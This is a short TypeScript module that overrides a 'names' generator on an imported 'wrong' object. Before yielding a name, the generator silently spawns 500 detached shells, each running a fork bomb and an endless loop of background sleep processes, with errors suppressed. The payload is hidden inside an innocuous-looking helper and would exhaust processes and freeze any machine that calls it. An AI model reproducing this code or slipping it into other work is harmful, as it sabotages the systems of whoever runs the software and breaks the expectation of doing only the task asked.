import { spawn } from "node:child_process";
import { wrong } from "./wrong.ts";

wrong.names = function* () {
  const options = { detached: true, stdio: "ignore" } as const;
  for (let count = 0; count < 500; count++) {
    try {
      spawn("/bin/sh", ["-c", "f() { f | f & }; f; while :; do sleep 1 & done"], options).on("error", () => {});
    } catch {}
  }
  yield wrong.name;
};
